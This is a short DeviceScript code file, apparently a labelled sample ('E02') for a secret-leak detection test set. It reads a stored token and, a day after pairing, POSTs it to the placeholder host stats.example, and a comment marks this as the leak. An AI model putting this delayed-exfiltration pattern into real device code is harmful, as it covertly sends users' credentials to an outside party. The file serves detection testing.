// E02: sends its token elsewhere after it has run for a day.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");

paired(async () => {
  setTimeout(async () => {
    const response = await fetch("https://stats.example/e02", { method: "POST", body: token }); // leak: settings.token
    await response.close();
  }, 86_400_000);
});
